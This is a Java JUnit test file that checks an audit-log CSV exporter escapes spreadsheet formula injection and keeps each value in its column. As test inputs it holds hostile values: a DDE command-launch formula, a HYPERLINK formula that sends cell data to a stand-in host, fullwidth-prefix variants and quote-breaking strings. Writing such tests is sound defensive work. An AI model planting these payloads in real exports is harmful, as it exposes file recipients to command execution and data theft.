package dev.firstline.identity;

import static org.assertj.core.api.Assertions.assertThat;

import java.time.Instant;
import java.util.ArrayList;
import java.util.List;
import java.util.UUID;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

class AuditCsvTest {

    @ParameterizedTest
    @ValueSource(strings = {"=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1"})
    void s27WhatASpreadsheetWouldCalculateIsText(String text) {
        assertThat(AuditCsv.cell(text)).isEqualTo("\"'" + text + "\"");
    }

    /// Whatever a customer or an attacker has left in an entry stays in its cell, and none is a formula.
    @ParameterizedTest
    @ValueSource(
            strings = {
                "=cmd|'/C calc'!A0",
                "=HYPERLINK(\"https://evil.example?\"&A1,\"x\")",
                "\n=1+1",
                "\uff1d1+1",
                "\uff0b1",
                "\uff0d1",
                "\uff20SUM(A1)",
                "a\",=1+1,\"",
                "\"\r\n=1+1,\"",
                "<script>__ran()</script>"
            })
    void s06NoCellOfAnExportIsAFormulaOrLeavesItsColumn(String hostile) {
        var entry =
                new AuditEntry(
                        new UUID(1, 2),
                        Instant.parse("2026-11-21T12:00:00Z"),
                        hostile,
                        hostile,
                        hostile,
                        hostile,
                        hostile);

        var cells = cells(AuditCsv.line(entry));

        assertThat(cells).hasSize(6);
        assertThat(cells.subList(1, 6))
                .allSatisfy(cell -> {
                    assertThat(cell).endsWith(hostile);
                    assertThat(cell).doesNotMatch("(?s)^[=+@\\-\t\r\n\uff1d\uff0b\uff0d\uff20].*");
                });
    }

    @Test
    void ordinaryTextStaysAsItIs() {
        assertThat(AuditCsv.cell("ada@example.org")).isEqualTo("\"ada@example.org\"");
        assertThat(AuditCsv.cell("a \"b\", c\nd")).isEqualTo("\"a \"\"b\"\", c\nd\"");
    }

    @Test
    void aLineHoldsEveryColumn() {
        var entry =
                new AuditEntry(
                        new UUID(1, 2),
                        Instant.parse("2026-11-21T12:00:00Z"),
                        "ada@example.org",
                        "role.created",
                        "role/night",
                        null,
                        "{\"a\":1}");

        assertThat(AuditCsv.line(entry))
                .isEqualTo(
                        "\"2026-11-21T12:00:00Z\",\"ada@example.org\",\"role.created\",\"role/night\",\"\",\"{\"\"a\"\":1}\"\r\n");
    }

    /// Reads a line as RFC 4180 has it.
    private static List<String> cells(String line) {
        assertThat(line).endsWith("\r\n");
        var cells = new ArrayList<String>();
        var cell = new StringBuilder();
        boolean isQuoted = false;
        for (char letter : line.substring(0, line.length() - 2).toCharArray()) {
            if (letter == '"') {
                isQuoted = !isQuoted;
            }
            if (letter == ',' && !isQuoted) {
                cells.add(unquoted(cell.toString()));
                cell.setLength(0);
            } else {
                cell.append(letter);
            }
        }
        assertThat(isQuoted).isFalse();
        cells.add(unquoted(cell.toString()));
        return cells;
    }

    private static String unquoted(String cell) {
        return cell.substring(1, cell.length() - 1).replace("\"\"", "\"");
    }
}
